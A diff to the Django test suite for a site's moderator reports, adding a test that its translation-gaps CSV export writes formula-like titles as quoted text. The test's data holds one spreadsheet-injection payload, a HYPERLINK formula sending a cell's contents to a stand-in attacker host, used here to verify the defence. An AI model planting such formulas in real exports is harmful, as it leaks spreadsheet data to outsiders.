@@ -1,5 +1,7 @@
 """Moderators' reports: practices missing a language, and practices not updated for two years."""
 
+import csv
+import io
 from datetime import timedelta
 from unittest import mock
 
@@ -81,3 +83,14 @@ def test_reports_are_in_the_moderators_menu_only(signed_in, accounts):
     url = reverse("practices_reports:translation_gaps")
     assert url in signed_in("moderator").get(reverse("wagtailadmin_home")).content.decode()
     assert url not in signed_in("ngo_eu").get(reverse("wagtailadmin_home")).content.decode()
+
+
+def test_translation_gaps_csv_keeps_a_formula_title_as_text(signed_in, accounts, import_lines):
+    formula = '=HYPERLINK("https://attacker.example/?x="&A1,"Click")'
+    import_lines(practice("formula-title", en=(formula, "A title a spreadsheet would run."), organisation=EU_NGO))
+    response = signed_in("moderator").get(reverse("practices_reports:translation_gaps"), {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
+    titles = [row[0] for row in rows]
+    assert "'" + formula in titles
+    assert formula not in titles
+    assert EU_TITLE in titles  # ordinary titles are written as they are
